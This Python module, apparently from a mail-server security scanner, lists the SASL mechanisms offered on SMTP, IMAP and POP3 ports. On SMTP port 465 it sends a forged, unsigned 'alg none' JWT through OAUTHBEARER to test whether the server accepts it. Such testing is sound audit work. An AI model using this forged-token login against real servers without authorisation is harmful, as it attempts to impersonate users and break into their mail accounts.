"""Access tokens as a stranger sees them: where they are taken, and what one without a signature gets."""

from __future__ import annotations

import base64
import json
import time
from typing import Any

from .wire import Wire, greeted, until

PORTS = (465, 993, 995)
MOST_LINES = 50  # of what a server says that it can do


def look(address: str, port: int, name: str, token: dict[str, str] | None) -> dict[str, Any]:
    """{offered: mechanisms inside TLS, reply: to a forged token, on 465 where such are offered}."""
    with Wire(address, port) as wire:
        wire.start_tls(name)
        offered = offers(wire, port)
        found: dict[str, Any] = {"offered": offered}
        if port == 465 and token and "OAUTHBEARER" in offered:
            found["reply"] = tried(wire, token)
        return found


def offers(wire: Wire, port: int) -> list[str]:
    """The mechanisms of SASL in upper case (RFC 4954 §4, RFC 9051 §7.2.2, RFC 5034 §3)."""
    if port == 465:
        lines = [line.upper().split() for line in greeted(wire)[1]]
        return [word for line in lines if line[:1] == ["AUTH"] for word in line[1:]]
    if port == 993:
        until(wire, "* OK")
        wire.send(b"a CAPABILITY\r\n")
        words = until(wire, "* CAPABILITY").upper().split()
        return [word.removeprefix("AUTH=") for word in words if word.startswith("AUTH=")]
    until(wire, "+OK")
    wire.send(b"CAPA\r\n")
    until(wire, "+OK")
    lines = []
    while len(lines) < MOST_LINES and (line := wire.line()) != ".":
        lines.append(line.upper().split())
    return [word for line in lines if line[:1] == ["SASL"] for word in line[1:]]


def tried(wire: Wire, token: dict[str, str]) -> list[Any]:
    """The last reply to OAUTHBEARER (RFC 7628 §3.1, §3.2.3) with a token that nobody signed."""
    now = int(time.time())
    claims = {name: value for name, value in token.items() if name not in ("user", "type")}
    header = {"alg": "none", "typ": token["type"]}
    jwt = ".".join(part(each) for each in (header, claims | {"iat": now, "exp": now + 300})) + "."
    message = f"n,a={token['user']},\x01auth=Bearer {jwt}\x01\x01"
    code, lines = wire.ask(f"AUTH OAUTHBEARER {base64.b64encode(message.encode()).decode()}")
    if code == 334:
        code, lines = wire.ask("AQ==")
    return [code, " ".join(lines)]


def part(value: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")
